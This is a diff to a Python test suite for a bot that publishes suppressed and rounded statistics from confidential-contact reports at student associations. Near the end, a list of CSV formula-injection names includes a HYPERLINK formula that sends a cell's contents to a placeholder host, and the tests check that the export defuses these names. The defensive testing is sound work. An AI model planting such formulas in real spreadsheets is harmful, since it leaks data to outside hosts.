@@ -10,6 +10,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import itertools
 import random
 import struct
 from collections import Counter, defaultdict
@@ -17,7 +18,9 @@ from datetime import UTC, date, datetime, timedelta
 from zoneinfo import ZoneInfo
 
 import pytest
-from sqlalchemy import Date, DateTime, func, inspect, select, text
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from sqlalchemy import Date, DateTime, func, inspect, select, text, update
 
 from vcpbot.db import Database
 from vcpbot.db.base import Base
@@ -26,9 +29,11 @@ from vcpbot.db.kmtm import (
     Category,
     Dimension,
     FollowUp,
+    KmtmPeriod,
     KmtmRelease,
     Relation,
 )
+from vcpbot.db.network import Association
 from vcpbot.errors import Conflict, InvalidInput, NotAllowed, NotFound
 from vcpbot.services import kmtm, kmtm_chart, kmtm_report, network
 from vcpbot.services.disclosure import FEWER_THAN_K, SUPPRESSED, Cell, Rule, protect
@@ -579,11 +584,10 @@ def _expected(
     plan: list[tuple[int, str, str, str]], column: int, values: tuple[str, ...], ids: dict[int, int]
 ) -> dict[str, object]:
     """What the rule gives for the contacts as logged, tallied here independently."""
-    counts: Counter[str] = Counter(contact[column] for contact in plan)
-    who: dict[str, set[int]] = defaultdict(set)
+    shares: dict[str, Counter[int]] = defaultdict(Counter)
     for contact in plan:
-        who[contact[column]].add(ids[contact[0]])
-    cells = [Cell(v, counts[v], frozenset(who[v])) for v in values]
+        shares[contact[column]][ids[contact[0]]] += 1
+    cells = [Cell(v, shares[v].total(), dict(shares[v])) for v in values]
     return protect(cells, Rule(k=5)).values()
 
 
@@ -632,11 +636,13 @@ async def test_a_realistic_kmtm_from_logging_to_release(db: Database) -> None:
     names = [row.label for row in by_association.rows]
     assert names == sorted(name for name, _ in ASSOCIATIONS.values())
     shown = {row.label: row.value for row in by_association.rows}
-    # Scopus's 4 is hidden, and Koko's 7 with it so that 4 cannot be worked out.
+    # Scopus's 4 is hidden. Koko's 7 alone with it would let Koko subtract its own 7
+    # and find the 4; with Saurus's 9 as well, Scopus would know the other two add up
+    # to 16, each at most 10 (below the smallest shown, 11): so Circumflex goes too.
     assert shown == {
-        "Circumflex": 11,
+        "Circumflex": SUPPRESSED,
         "Koko": SUPPRESSED,
-        "Saurus": 9,
+        "Saurus": SUPPRESSED,
         "Scopus": SUPPRESSED,
         "Tragos": 14,
     }
@@ -660,11 +666,15 @@ def _assert_png(data: bytes) -> tuple[int, int]:
 
 
 async def _small_closed_period(db: Database) -> None:
+    """Fourteen contacts: seven sexual_physical, published; seven others, hidden, spread
+    so that no association holds more than two of them (otherwise it could subtract
+    its own and learn that the others logged fewer than five there)."""
     await _network(db)
     await _period(db)
     plan = [(1001, "sexual_physical")] * 3 + [(1002, "sexual_physical")] * 2
-    plan += [(1003, "sexual_physical")] * 2 + [(1004, "advice")] * 3 + [(1005, "stalking")]
-    plan += [(1005, "improper")] * 2
+    plan += [(1003, "sexual_physical")] * 2
+    plan += [(1003, "advice"), (1004, "advice"), (1005, "advice"), (1001, "stalking")]
+    plan += [(1002, "improper"), (1004, "improper"), (1005, "improper")]
     for guild, category in plan:
         await _log(db, guild, category)
     await _close(db)
@@ -684,24 +694,34 @@ async def test_the_same_request_gives_the_same_numbers(db: Database) -> None:
     values = _values(first)
     assert values["sexual_physical"] == 7
     assert values["advice"] is SUPPRESSED and values["stalking"] is SUPPRESSED
-    assert first.total == 13
+    assert first.total == 14
     # Other settings later still get the release as published; they are told so.
     changed = await _report(db, "category", k=3, round_to_5=True)
     assert changed.from_ledger and changed.settings_differ
     assert (changed.rows, changed.k, changed.rounded) == (first.rows, 5, False)
     async with db.sessions.begin() as session:
         releases = (await session.scalars(select(KmtmRelease))).all()
-    assert [(r.dimension, r.k, r.rounded, r.span) for r in releases] == [("category", 5, False, 1)]
+    # The first report released the whole period: every breakdown, with one set of settings.
+    assert sorted((r.dimension, r.k, r.rounded, r.span) for r in releases) == [
+        ("association", 5, False, 1),
+        ("category", 5, False, 1),
+        ("follow_up", 5, False, 1),
+        ("relation", 5, False, 1),
+    ]
+    assert {r.payload["total"] for r in releases} == {14}
     # The ledger keeps what was shown, never why a cell is hidden.
-    assert "primary" not in str(releases[0].payload)
-    assert "secondary" not in str(releases[0].payload)
+    assert "primary" not in str([r.payload for r in releases])
+    assert "secondary" not in str([r.payload for r in releases])
 
 
 async def test_concurrent_first_requests_record_one_release(db: Database) -> None:
     await _small_closed_period(db)
-    reports = await asyncio.gather(*(_report(db, "relation") for _ in range(5)))
-    assert len({(r.rows, r.total) for r in reports}) == 1
-    assert (await _row_counts(db))["kmtm_releases"] == 1
+    asked = ["relation"] * 3 + ["category", "association"]
+    reports = await asyncio.gather(*(_report(db, by) for by in asked))
+    assert len({(r.rows, r.total) for r in reports[:3]}) == 1
+    assert len({r.total for r in reports}) == 1
+    # One release of the period: each of its four breakdowns recorded once.
+    assert (await _row_counts(db))["kmtm_releases"] == 4
 
 
 async def test_bad_report_requests_are_refused_and_nothing_is_recorded(db: Database) -> None:
@@ -743,7 +763,7 @@ async def test_rounding_applies_after_suppression(db: Database) -> None:
     released = await _report(db, "category", round_to_5=True)
     values = _values(released)
     assert values["sexual_physical"] == 5  # 7, rounded
-    assert released.total == 15  # 13, rounded from the exact total
+    assert released.total == 15  # 14, rounded from the exact total
     assert values["advice"] is SUPPRESSED
 
 
@@ -783,7 +803,8 @@ async def test_year_by_year_compares_totals_with_rates_where_counts_were_registe
     years = await _report(db, "year")
     assert years.total is None
     assert [(r.key, r.value, r.rate_per_1000) for r in years.rows] == [
-        ("KMTM 2024", 6, None),  # nobody registered a member count
+        # 3, 2 and 1: Tragos could subtract its 3 from a 6 and learn the others' 1 and 2.
+        ("KMTM 2024", SUPPRESSED, None),
         ("KMTM 2025", 19, round(19 * 1000 / 850, 1)),  # every contributor registered
         ("KMTM 2026", 45, None),  # three associations that logged did not register
     ]
@@ -807,12 +828,288 @@ async def test_the_csv_export_has_the_published_numbers_only(db: Database) -> No
         "breakdown": "category",
         "key": "total",
         "label": "Totaal",
-        "count": "13",
+        "count": "14",
         "status": "published",
         "per_1000_members": "",
     }
-    # The 3 advice, 2 improper and 1 stalking contacts appear nowhere.
-    assert {r["count"] for r in rows} == {"7", "*", "13"}
+    # The 3 advice, 3 improper and 1 stalking contacts appear nowhere.
+    assert {r["count"] for r in rows} == {"7", "*", "14"}
+
+
+# --- one release per period: later tables show the ledger's numbers --------------------
+
+
+async def _past_period(db: Database, year: int, plan: dict[int, int]) -> None:
+    """A closed period in ``year`` with ``plan[guild]`` contacts from each association."""
+    await _period(db, f"KMTM {year}", date(year, 8, 1), date(year, 9, 30))
+    for guild, n in plan.items():
+        for _ in range(n):
+            await _log(db, guild, now=datetime(year, 8, 20, 12, 0, tzinfo=UTC))
+    await _close(db, f"KMTM {year}", now=datetime(year, 10, 2, tzinfo=UTC))
+
+
+def _csv_counts(report: kmtm_report.Report) -> dict[str, str]:
+    """What a person reads in the export: each row's count as text, by key."""
+    text_ = kmtm_report.export_csv(report, locale="en")
+    return {row["key"]: row["count"] for row in csv.DictReader(io.StringIO(text_))}
+
+
+async def test_a_period_released_with_k_10_still_shows_fewer_than_10_after_k_is_lowered(
+    db: Database,
+) -> None:
+    await _network(db)
+    # Nine contacts, three from each of three associations.
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1003: 3})
+    first = await _report(db, "category", name="KMTM 2025", k=10)
+    assert _csv_counts(first)["total"] == "fewer than 10"
+    # A year later the coordinator lowers k to 5.
+    await _past_period(db, 2026, {1001: 3, 1002: 3, 1003: 3})
+    years = await _report(db, "year", name="KMTM 2026", k=5)
+    assert _csv_counts(years) == {"KMTM 2025": "fewer than 10", "KMTM 2026": "9"}
+    # The table says which period keeps the settings of its own release.
+    assert kmtm_report.released_otherwise(years, "en") == ["KMTM 2025"]
+    _assert_png(render_png(years, locale="nl"))
+    # Another breakdown of 2025, asked for the first time now, has the same total too.
+    by_association = await _report(db, "association", name="KMTM 2025", k=5)
+    assert _csv_counts(by_association)["total"] == "fewer than 10"
+    assert set(_values(by_association).values()) == {SUPPRESSED}
+    assert by_association.settings_differ
+
+
+async def test_a_period_released_rounded_stays_rounded_after_rounding_is_turned_off(
+    db: Database,
+) -> None:
+    await _network(db)
+    await _past_period(db, 2025, {1001: 5, 1002: 4, 1003: 4})
+    first = await _report(db, "relation", name="KMTM 2025", round_to_5=True)
+    assert first.total == 15  # 13, rounded
+    await _past_period(db, 2026, {1001: 5, 1002: 4, 1003: 4})
+    years = await _report(db, "year", name="KMTM 2026", round_to_5=False)
+    assert _csv_counts(years) == {"KMTM 2025": "15", "KMTM 2026": "13"}
+    later = await _report(db, "category", name="KMTM 2025", round_to_5=False)
+    assert later.total == 15 and later.rounded
+
+
+async def test_a_year_table_releases_the_periods_it_shows(db: Database) -> None:
+    await _network(db)
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1003: 3})
+    await _past_period(db, 2026, {1001: 3, 1002: 3, 1003: 3})
+    years = await _report(db, "year", name="KMTM 2026", k=5)
+    assert _csv_counts(years) == {"KMTM 2025": "9", "KMTM 2026": "9"}
+    # 2025 was released by that table: a later k of 10 does not turn it into "fewer than 10".
+    later = await _report(db, "category", name="KMTM 2025", k=10)
+    assert _csv_counts(later)["total"] == "9"
+    assert later.k == 5 and later.settings_differ
+
+
+async def _old_style_release(db: Database, period: str, dimension: str, rows: list, total) -> None:
+    """A ledger row as releases were recorded before one release covered a whole period."""
+    async with db.sessions.begin() as session:
+        found = await kmtm.period_by_name(session, name=period)
+        session.add(
+            KmtmRelease(
+                period_id=found.id,
+                dimension=dimension,
+                k=10,
+                min_contributors=3,
+                rounded=False,
+                span=1 if dimension != "year" else 5,
+                released_on=date(2025, 10, 3),
+                payload={"period": period, "rows": rows, "total": total},
+            )
+        )
+
+
+async def test_a_period_released_one_table_at_a_time_keeps_its_first_total(db: Database) -> None:
+    await _network(db)
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1003: 3})
+    # Released before this version, with k=10: only the category table, total "fewer than 10".
+    rows = [{"key": c.value, "label": None, "value": "suppressed", "rate": None} for c in Category]
+    await _old_style_release(db, "KMTM 2025", "category", rows, "fewer_than_k")
+    by_association = await _report(db, "association", name="KMTM 2025", k=5)
+    assert by_association.total is FEWER_THAN_K and by_association.k == 10
+    assert _csv_counts(by_association)["total"] == "fewer than 10"
+    category = await _report(db, "category", name="KMTM 2025", k=5)
+    assert category.rows == tuple(
+        kmtm_report.ReportRow(c.value, None, SUPPRESSED) for c in Category
+    )
+
+
+async def test_a_period_shown_only_in_an_old_year_table_keeps_that_total(db: Database) -> None:
+    await _network(db)
+    await _past_period(db, 2024, {1001: 3, 1002: 3, 1003: 3})
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1003: 3})
+    rows = [
+        {"key": "KMTM 2024", "label": "KMTM 2024", "value": "fewer_than_k", "rate": None},
+        {"key": "KMTM 2025", "label": "KMTM 2025", "value": "fewer_than_k", "rate": None},
+    ]
+    await _old_style_release(db, "KMTM 2025", "year", rows, None)
+    later = await _report(db, "relation", name="KMTM 2024", k=5)
+    assert _csv_counts(later)["total"] == "fewer than 10"
+    await _past_period(db, 2026, {1001: 3, 1002: 3, 1003: 3})
+    years = await _report(db, "year", name="KMTM 2026", k=5)
+    assert _csv_counts(years) == {
+        "KMTM 2024": "fewer than 10",
+        "KMTM 2025": "fewer than 10",
+        "KMTM 2026": "9",
+    }
+
+
+CONTACT = st.tuples(
+    st.sampled_from(["stalking", "advice", "bullying"]),
+    st.sampled_from(["student", "unknown"]),
+    st.sampled_from(["listening_ear", "nothing_yet"]),
+)
+PLANS = st.lists(
+    st.dictionaries(st.sampled_from(list(ASSOCIATIONS)), st.lists(CONTACT, max_size=8)),
+    min_size=2,
+    max_size=4,
+)
+REQUESTS = st.lists(
+    st.fixed_dictionaries(
+        {
+            "period": st.integers(0, 3),
+            "dimension": st.sampled_from([d.value for d in Dimension]),
+            "k": st.integers(3, 10),
+            "round_to_5": st.booleans(),
+            "min_contributors": st.integers(3, 4),
+            "year_periods": st.integers(1, 4),
+        }
+    ),
+    min_size=2,
+    max_size=8,
+)
+EXAMPLES = itertools.count()
+
+
+async def _closed_periods(
+    db: Database, plans: list[dict[int, list[tuple[str, str, str]]]]
+) -> list[str]:
+    """Periods in years nobody used before in this database, with these contacts, closed."""
+    async with db.sessions.begin() as session:
+        joined = await network.association_for_guild(session, guild_id=1001) is not None
+    ids = await _ids(db) if joined else await _network(db)
+    first_year = 2100 + 5 * next(EXAMPLES)
+    names = []
+    for offset, plan in enumerate(plans):
+        year = first_year + offset
+        period = await _period(db, f"P {year}", date(year, 8, 1), date(year, 9, 30))
+        async with db.sessions.begin() as session:
+            for position, table in enumerate(COUNTER_TABLES.values()):
+                tally = Counter(
+                    (ids[guild], contact[position])
+                    for guild, contacts in plan.items()
+                    for contact in contacts
+                )
+                session.add_all(
+                    table(period_id=period.id, association_id=a, value=v, count=n)
+                    for (a, v), n in tally.items()
+                )
+        await _close(db, period.name, now=datetime(year, 10, 2, tzinfo=UTC))
+        names.append(period.name)
+    return names
+
+
+def _ledger_text(value: object, k: int) -> str:
+    if value == "suppressed":
+        return "*"
+    if value == "fewer_than_k":
+        return f"fewer than {k}"
+    return str(value)
+
+
+@settings(
+    max_examples=25,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(plans=PLANS, requests=REQUESTS)
+async def test_every_later_table_shows_the_ledgers_numbers_for_released_periods(
+    db: Database, plans, requests
+) -> None:
+    """Settings change at random between reports; a period's numbers never do."""
+    names = await _closed_periods(db, plans)
+    totals: dict[str, str] = {}  # each period's total as first shown
+    tables: dict[tuple[str, str], dict[str, str]] = {}  # each breakdown as first shown
+    for request in requests:
+        settings_now = {k: v for k, v in request.items() if k not in ("period", "dimension")}
+        name, dimension = names[request["period"] % len(names)], request["dimension"]
+        shown = _csv_counts(await _report(db, dimension, name=name, **settings_now))
+        if dimension == "year":
+            observed = shown
+        else:
+            assert tables.setdefault((name, dimension), shown) == shown
+            observed = {name: shown["total"]}
+        for period, total in observed.items():
+            assert totals.setdefault(period, total) == total, (period, requests)
+    # The ledger holds each of those periods, with the same total in every table of it.
+    async with db.sessions.begin() as session:
+        rows = (await session.scalars(select(KmtmRelease))).all()
+        by_id = {p.id: p.name for p in await kmtm.list_periods(session)}
+    for period, total in totals.items():
+        own = [r for r in rows if by_id[r.period_id] == period and r.dimension != "year"]
+        assert own, f"{period} was shown but is not in the ledger"
+        assert {_ledger_text(r.payload["total"], r.k) for r in own} == {total}
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_NAMES = [
+    '=HYPERLINK("https://example.org/?"&A1,"Open")',
+    "+31 6 12345678",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+async def test_no_name_in_the_kmtm_export_can_run_as_a_formula(db: Database, name: str) -> None:
+    """A board names its association, the coordinator a period: whatever the name
+    starts with, the coordinator's spreadsheet shows it as text."""
+    ids = await _network(db)
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1003: 3})
+    period = " ".join(name.split())  # a period's name is tidied when it is created
+    async with db.sessions.begin() as session:
+        await session.execute(
+            update(Association).where(Association.id == ids[1001]).values(name=name)
+        )
+        await session.execute(update(KmtmPeriod).values(name=period))
+    for by in ("association", "category", "year"):
+        text_ = kmtm_report.export_csv(await _report(db, by, name=period), locale="nl")
+        cells = [cell for row in csv.reader(io.StringIO(text_)) for cell in row]
+        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], by
+        rows = list(csv.DictReader(io.StringIO(text_)))
+        assert {r["period"] for r in rows} == {"'" + period}
+        if by == "association":
+            assert "'" + name in {r["label"] for r in rows}
+
+
+async def test_a_board_names_its_association_as_a_formula_through_setup(db: Database) -> None:
+    await _network(db)
+    await _join(db, 1006, '=HYPERLINK("https://example.org","Klik")')
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1006: 3})
+    released = await _report(db, "association", name="KMTM 2025")
+    rows = list(csv.DictReader(io.StringIO(kmtm_report.export_csv(released, locale="nl"))))
+    assert '\'=HYPERLINK("https://example.org","Klik")' in {r["label"] for r in rows}
+
+
+@pytest.mark.parametrize("name", ["$\\frac{$", "Sigma $x_1$ Society", "100$ club"])
+async def test_a_name_with_dollar_signs_does_not_stop_the_chart(db: Database, name: str) -> None:
+    """Matplotlib reads "$...$" as a formula; a malformed one made drawing fail."""
+    ids = await _network(db)
+    await _past_period(db, 2025, {1001: 3, 1002: 3, 1003: 3})
+    await _past_period(db, 2026, {1001: 3, 1002: 3, 1003: 3})
+    async with db.sessions.begin() as session:
+        await session.execute(
+            update(Association).where(Association.id == ids[1001]).values(name=name)
+        )
+        await session.execute(
+            update(KmtmPeriod).where(KmtmPeriod.name == "KMTM 2025").values(name=name)
+        )
+    for by, period in (("association", "KMTM 2026"), ("year", "KMTM 2026"), ("category", name)):
+        _assert_png(render_png(await _report(db, by, name=period), locale="en"))
 
 
 @pytest.mark.parametrize("locale", ["nl", "en"])
